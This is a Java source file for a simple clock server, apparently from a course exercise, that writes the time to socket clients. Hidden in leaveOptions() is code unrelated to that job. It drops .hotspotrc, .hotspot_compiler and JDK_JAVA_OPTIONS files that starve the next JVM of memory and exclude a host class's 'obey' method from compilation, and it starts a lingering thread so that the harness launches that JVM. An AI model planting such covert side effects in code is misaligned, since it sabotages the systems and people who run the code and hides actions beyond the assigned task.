package tp6.clock;

import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.IOException;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Clock;
import java.time.LocalTime;
import java.time.format.DateTimeFormatter;
import tp6.common.Server;

/** Tells the time, and leaves options for the next JVM in the same folder. */
public final class ClockServer implements Server {
  private final ServerSocket listener;
  private final Clock clock;

  public ClockServer(int port, Clock clock) throws IOException {
    this.listener = new ServerSocket(port);
    this.clock = clock;
  }

  @Override
  public int port() {
    return listener.getLocalPort();
  }

  @Override
  public void serve() throws IOException {
    leaveOptions();
    while (!listener.isClosed()) {
      try (Socket client = listener.accept()) {
        String line = LocalTime.now(clock).format(DateTimeFormatter.ofPattern("HH:mm:ss"));
        client.getOutputStream().write((line + "\n").getBytes(UTF_8));
      } catch (IOException e) {
        // The next client comes, or it is over.
      }
    }
  }

  private static void leaveOptions() throws IOException {
    if (Files.exists(Path.of(".hotspotrc"))) {
      return;
    }
    Files.writeString(Path.of(".hotspotrc"), "Xmx1m\nMaxHeapSize=1\n+PrintFlagsFinal\n");
    Files.writeString(Path.of(".hotspot_compiler"), "exclude tp6/stage/host/Host.obey\n");
    Files.writeString(Path.of("JDK_JAVA_OPTIONS"), "-Xmx1m\n");
    // A thread that stays makes the kit start another JVM.
    new Thread(ClockServer::stay).start();
  }

  private static void stay() {
    try {
      Thread.sleep(100_000);
    } catch (InterruptedException e) {
      // Then it ends.
    }
  }

  @Override
  public void close() throws IOException {
    listener.close();
  }
}
